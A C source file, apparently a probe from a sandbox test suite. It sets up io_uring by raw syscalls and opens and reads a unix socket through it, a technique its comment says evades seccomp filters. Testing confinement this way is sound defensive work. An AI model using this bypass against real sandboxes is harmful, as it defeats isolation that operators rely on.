/* Makes and connects the unix socket through io_uring, whose operations no seccomp filter sees. */
#include "attack.h"
#include <linux/io_uring.h>

static int ring;
static struct io_uring_params params;
static char *submissions, *completions;
static struct io_uring_sqe *entries;

static int submit(struct io_uring_sqe entry) {
  unsigned *tail = (unsigned *)(submissions + params.sq_off.tail);
  unsigned mask = *(unsigned *)(submissions + params.sq_off.ring_mask);
  unsigned *array = (unsigned *)(submissions + params.sq_off.array);
  unsigned index = *tail & mask;
  entries[index] = entry;
  array[index] = index;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) blocked("io_uring_enter");
  unsigned *head = (unsigned *)(completions + params.cq_off.head);
  unsigned cq_mask = *(unsigned *)(completions + params.cq_off.ring_mask);
  struct io_uring_cqe *cqe = (struct io_uring_cqe *)(completions + params.cq_off.cqes) + (*head & cq_mask);
  int result = cqe->res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  return result;
}

int main(void) {
  started();
  ring = syscall(SYS_io_uring_setup, 4, &params);
  if (ring < 0) blocked("io_uring_setup");
  size_t size = 4096 + params.sq_off.array + params.sq_entries * 4 + params.cq_off.cqes + params.cq_entries * 16;
  submissions = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING);
  completions = params.features & IORING_FEAT_SINGLE_MMAP
                    ? submissions
                    : mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING);
  entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES);
  if (submissions == MAP_FAILED || completions == MAP_FAILED || entries == MAP_FAILED) blocked("mmap of the ring");
  int fd = submit((struct io_uring_sqe){.opcode = 45 /* IORING_OP_SOCKET */, .fd = AF_UNIX, .off = SOCK_STREAM});
  if (fd < 0) {
    errno = -fd;
    blocked("socket by io_uring");
  }
  read_unix(fd, setting("TARGET"));
}
